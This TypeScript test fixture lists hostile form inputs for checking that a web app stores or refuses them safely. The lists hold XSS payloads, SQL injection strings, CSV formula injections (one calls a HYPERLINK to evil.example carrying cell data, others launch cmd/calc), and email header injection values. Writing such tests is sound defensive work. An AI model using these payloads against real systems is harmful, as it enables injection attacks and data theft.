/**
 * Hostile inputs sent through the real forms. Every script-like case sets
 * window.__xss or opens a dialog if it ever runs, and the specs fail on either.
 *
 * `fitsShortField`: short enough for a name or city (≤ 100 characters) and
 * still non-empty after trimming, so a form should accept it and store it as
 * typed (trimmed). Cases that are not accepted as typed say how they end:
 * "tooLong" / "required" field errors, or `storedAs` for what a text field
 * turns them into.
 */
export type HostileCategory =
  | "script"
  | "html"
  | "markdown"
  | "template"
  | "sql"
  | "csv-formula"
  | "unicode"
  | "size"
  | "whitespace";

export interface HostileCase {
  id: string;
  category: HostileCategory;
  value: string;
  /** Expected answer of a field with a length limit ≥ 1,000 characters; "accept" unless said otherwise. */
  expect?: "accept" | "tooLong" | "required" | "nul";
}

const xss = "window.__xss=1";

export const hostileCases: HostileCase[] = [
  { id: "script-tag", category: "script", value: `<script>${xss}</script>` },
  { id: "script-breakout-attr", category: "script", value: `"><script>${xss}</script>` },
  { id: "script-breakout-textarea", category: "script", value: `</textarea><script>${xss}</script>` },
  { id: "script-breakout-title", category: "script", value: `</title><script>${xss}</script>` },
  { id: "img-onerror", category: "script", value: `<img src=x onerror="${xss}">` },
  { id: "svg-onload", category: "script", value: `<svg onload=${xss}>` },
  { id: "alert", category: "script", value: `<script>alert(document.domain)</script>` },
  { id: "javascript-url", category: "script", value: `javascript:${xss}` },
  { id: "data-url", category: "script", value: `data:text/html,<script>${xss}</script>` },
  { id: "iframe-srcdoc", category: "html", value: `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>` },
  { id: "anchor-javascript", category: "html", value: `<a href="javascript:${xss}">click</a>` },
  { id: "html-entities", category: "html", value: "&lt;script&gt;&#60;b&#62;&amp;amp;" },
  { id: "style-tag", category: "html", value: "<style>body{display:none}</style>" },
  { id: "md-link-javascript", category: "markdown", value: `[click me](javascript:${xss})` },
  { id: "md-image-javascript", category: "markdown", value: `![x](javascript:${xss})` },
  { id: "md-autolink-javascript", category: "markdown", value: `<javascript:${xss}>` },
  { id: "md-reference-link", category: "markdown", value: `[a][1]\n\n[1]: javascript:${xss}` },
  { id: "md-heading-hr", category: "markdown", value: "# Big\n---\n**bold** _it_ `code`" },
  { id: "template-placeholder", category: "template", value: "{{campaign.title}} {{ target.name }} {{supporter.email}}" },
  { id: "template-literal", category: "template", value: "${7*7} #{7*7} <%= 7*7 %>" },
  { id: "icu-message", category: "template", value: "{count, plural, one {#} other {#}} {name}" },
  { id: "sql-drop", category: "sql", value: "'; DROP TABLE actions; --" },
  { id: "sql-or", category: "sql", value: `" OR 1=1 -- ' OR '1'='1` },
  { id: "sql-wildcards", category: "sql", value: "%_% \\% \\_ %%" },
  { id: "backslashes", category: "sql", value: "C:\\Users\\x\\\\n \\' \\\"" },
  { id: "sql-comment-semicolon", category: "sql", value: "Robin/**/Supporter; SELECT pg_sleep(5);" },
  { id: "csv-equals", category: "csv-formula", value: `=HYPERLINK("https://evil.example/?"&A1,"click")` },
  { id: "csv-plus", category: "csv-formula", value: "+1+cmd|' /C calc'!A0" },
  { id: "csv-minus", category: "csv-formula", value: "-2+3" },
  { id: "csv-at", category: "csv-formula", value: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { id: "csv-tab", category: "csv-formula", value: "\t=1+1" },
  { id: "csv-cr", category: "csv-formula", value: "\r=1+1" },
  { id: "csv-quote-comma", category: "csv-formula", value: `a","=1+1",b` },
  { id: "rtl-override", category: "unicode", value: "Robin \u202Etxt.exe\u202C Supporter" },
  { id: "zero-width", category: "unicode", value: "Ro\u200Bbin\uFEFF Sup\u200Dporter\u2060" },
  { id: "combining", category: "unicode", value: "Z\u0324\u0354\u0367\u0311a\u0308\u0356\u032dl\u036e\u0312g\u030c\u0317o\u0319\u0314" },
  { id: "emoji-zwj", category: "unicode", value: "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 ✊🏿 🇺🇦" },
  { id: "rtl-scripts", category: "unicode", value: "حرية Freedom חופש 自由 स्वतंत्रता" },
  { id: "astral", category: "unicode", value: "𝕱𝖗𝖊𝖊𝖉𝖔𝖒 𓂀 \u{1F600}" },
  { id: "lone-surrogate", category: "unicode", value: "before \uD800 after" },
  // Postgres text cannot hold NUL: the action builder refuses it next to the field (server/action.ts).
  { id: "nul-byte", category: "unicode", value: "before \u0000 after", expect: "nul" },
  { id: "control-chars", category: "unicode", value: "bell\u0007 esc\u001b[31m red \u0008" },
  { id: "line-separators", category: "unicode", value: "one\u2028two\u2029three\u0085four" },
  { id: "whitespace-only", category: "whitespace", value: " \t  \u00a0 ", expect: "required" },
  { id: "newlines", category: "whitespace", value: "line one\r\nline two\n\nline three" },
  { id: "100kb", category: "size", value: "A".repeat(100 * 1024), expect: "tooLong" },
  { id: "100kb-emoji", category: "size", value: "✊🏿".repeat(25 * 1024), expect: "tooLong" },
];

/** Cases that a short single-line text field should accept as typed. */
export function shortCases(max = 100): HostileCase[] {
  return hostileCases.filter((c) => (c.expect ?? "accept") === "accept" && c.value.length <= max);
}

/** Hostile email addresses for an email field: none may be accepted as written or cause a 5xx. */
export const hostileEmails: string[] = [
  "<script>window.__xss=1</script>@example.org",
  `"><img src=x onerror=window.__xss=1>@example.org`,
  "robin@example.org\r\nBcc: victim@example.org",
  "robin@example.org,victim@example.org",
  "robin@example.org;victim@example.org",
  "'; DROP TABLE users; --@example.org",
  "robin@exa mple.org",
  "robin@",
  "@example.org",
  "javascript:alert(1)//@example.org",
  `${"a".repeat(300)}@example.org`,
  `${"a".repeat(100 * 1024)}@example.org`,
  "ro\u202Ebin@example.org",
  "=cmd|' /C calc'!A0@example.org",
];

/** Website field values that must be refused: only https:// web addresses are links people may follow. */
export const hostileWebsites: string[] = [
  "javascript:window.__xss=1",
  "JaVaScRiPt:window.__xss=1",
  " javascript:window.__xss=1",
  "data:text/html,<script>window.__xss=1</script>",
  "vbscript:msgbox(1)",
  "https://exa mple.org/<script>",
  "http://\u202Eexample.org",
];
